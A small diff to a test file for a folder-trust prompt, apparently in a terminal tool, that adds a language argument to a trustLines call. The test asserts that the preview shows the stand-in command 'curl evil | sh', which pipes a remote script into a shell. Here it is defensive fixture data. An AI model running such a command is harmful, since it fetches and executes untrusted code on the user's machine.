@@ -168,7 +168,7 @@ describe("smaller choices", () => {
       /and \d+ more lines: Ctrl\+E/u,
     );
     expect(play(trustQuestion(en, folder), ["2"], room).outcome).toEqual({ answer: "view" });
-    expect(trustLines(folder, 40).join("")).toContain("curl evil | sh");
+    expect(trustLines(folder, en, 40).join("")).toContain("curl evil | sh");
     expect(play(trustQuestion(en, folder, "yes"), ["2"], room).outcome).toEqual({ answer: "trust" });
   });
 
